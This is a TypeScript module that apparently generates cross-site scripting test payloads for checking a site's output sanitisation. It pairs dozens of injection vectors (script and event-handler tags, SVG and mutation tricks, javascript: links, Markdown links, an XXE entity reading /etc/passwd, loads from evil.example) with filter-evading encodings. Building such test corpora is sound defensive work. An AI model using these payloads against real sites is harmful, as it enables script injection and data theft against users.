/**
 * Texts made to run a script in a reader's browser, by vector and encoding. Each calls `alarm()`, so that a browser that
 * runs one says so. They are written for this house, by the classes of attack that its outputs could be open to.
 */

/** Ways to have a script run. */
const vectors: Record<string, string> = {
	script: '<script>alarm()</script>',
	'script from elsewhere': '<script src="//evil.example/a.js"></script>',
	'script in mixed case': '<ScRiPt >alarm()</sCrIpT >',
	'script without an end': '<script>alarm()//',
	image: '<img src=x onerror=alarm()>',
	'image without spaces': '<img/src="x"/onerror="alarm()">',
	'image with a broken tag': '<img """><script>alarm()</script>">',
	drawing: '<svg onload=alarm()>',
	'script in a drawing': '<svg><script>alarm()</script></svg>',
	'animation in a drawing':
		'<svg><a><animate attributeName=href values=javascript:alarm() /><text y=9>x</text></a></svg>',
	'use in a drawing': '<svg><use href="data:image/svg+xml,<svg id=x onload=alarm()>#x" /></svg>',
	'mutation by mathematics':
		'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alarm()&gt;">',
	'mutation by a drawing': '<svg></p><style><a id="</style><img src=1 onerror=alarm()>">',
	'mutation by a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alarm()>',
	'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=alarm()>">',
	'frame with a document': '<iframe srcdoc="<script>parent.alarm()</script>"></iframe>',
	'frame with an address': '<iframe src=javascript:parent.alarm()></iframe>',
	object: '<object data=javascript:alarm()></object>',
	embed: '<embed src=javascript:alarm()>',
	details: '<details open ontoggle=alarm()>x</details>',
	focus: '<input autofocus onfocus=alarm()>',
	'focus by index': '<b tabindex=0 autofocus onfocus=alarm()>x</b>',
	video: '<video><source onerror=alarm()></video>',
	marquee: '<marquee onstart=alarm()>x</marquee>',
	body: '<body onload=alarm()>',
	style: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alarm()>x</b>',
	base: '<base href="//evil.example/">',
	refresh: '<meta http-equiv=refresh content="0;url=javascript:alarm()">',
	'refresh elsewhere': '<meta http-equiv=refresh content="0;url=//evil.example/">',
	link: '<a href="javascript:alarm()">x</a>',
	'link with a tab': '<a href="java\tscript:alarm()">x</a>',
	'link with a space': '<a href=" javascript:alarm()">x</a>',
	'link to data': '<a href="data:text/html,<script>alarm()</script>">x</a>',
	button: '<button formaction=javascript:alarm()>x</button>',
	'form elsewhere': '<form action="//evil.example/"><input type=submit></form>',
	'stylesheet elsewhere': '<link rel=stylesheet href="//evil.example/a.css">',
	'image elsewhere': '<img src="//evil.example/a.png">',
	template: '<template><script>alarm()</script></template>',
	'declarative shadow root': '<div><template shadowrootmode=open><script>alarm()</script></template></div>',
	'clobbered name': '<a id=location name=alarm href=javascript:alarm()>x</a>',
	'end of an attribute': '" onmouseover="alarm()" autofocus onfocus="alarm()" x="',
	'end of a quoted attribute': "' onmouseover='alarm()' autofocus onfocus='alarm()' x='",
	'end of a comment': '--><script>alarm()</script>',
	'end of CDATA': ']]><script>alarm()</script>',
	'end of a title': '</title><script>alarm()</script>',
	'end of a text area': '</textarea><script>alarm()</script>',
	'end of a script': '</script><script>alarm()</script>',
	'end of a style': '</style><script>alarm()</script>',
	'end of a string': '";alarm();//',
	'end of a template string': '`;alarm();//$' + '{alarm()}',
	expression: "{{constructor.constructor('alarm()')()}}",
	'processing instruction': '<?xml-stylesheet href="javascript:alarm()"?>',
	entity: '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
	'Markdown link': '[x](javascript:alarm())',
	'Markdown link with a case': '[x](JaVaScRiPt:alarm())',
	'Markdown link to data': '[x](data:text/html;base64,PHNjcmlwdD5hbGFybSgpPC9zY3JpcHQ+)',
	'Markdown image': '![x](x" onerror="alarm())',
	'Markdown image title': '![x](./x.png "x\\" onerror=\\"alarm()")',
	'Markdown autolink': '<javascript:alarm()>',
	'Markdown reference': '[x]\n\n[x]: javascript:alarm()',
	'Markdown code': '`<script>alarm()</script>`',
	'block attribute': ':::map{places="x" onclick="alarm()"}\n:::',
};

/** Ways to write a text so that a filter may not know it. */
const encodings: Record<string, (text: string) => string> = {
	plain: (text) => text,
	'decimal references': (text) => replaced(text, /[<>"'():]/g, (code) => `&#${code};`),
	'hexadecimal references': (text) => replaced(text, /[<>"'():]/g, (code) => `&#x${code.toString(16)};`),
	'references without an end': (text) =>
		replaced(text, /[jJ(]/g, (code) => `&#${String(code).padStart(7, '0')}`),
	'named references': (text) =>
		text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll(':', '&colon;'),
	'references twice': (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
	'percent codes': (text) => replaced(text, /[<>"'():]/g, (code) => `%${code.toString(16)}`),
	'escapes of JSON': (text) => replaced(text, /[<>"']/g, (code) => `\\u00${code.toString(16)}`),
	'wide signs': (text) => replaced(text, /[<>"'():]/g, (code) => String.fromCodePoint(code + 0xfee0)),
	'a soft hyphen inside': (text) => text.replaceAll(/script/gi, 'scr\u00adipt').replaceAll('on', 'o\u200dn'),
};

function replaced(text: string, pattern: RegExp, write: (code: number) => string): string {
	return text.replace(pattern, (sign) => write(sign.codePointAt(0) ?? 0));
}

/** One text and what it is. */
export interface Payload {
	name: string;
	text: string;
}

/** Every vector in every encoding that changes it. */
export const payloads: Payload[] = Object.entries(vectors).flatMap(([vector, text]) => {
	const written = Object.entries(encodings).map(([encoding, write]) => ({
		name: `${vector}, ${encoding}`,
		text: write(text),
	}));
	return written.filter((payload, index) => index === 0 || payload.text !== text);
});
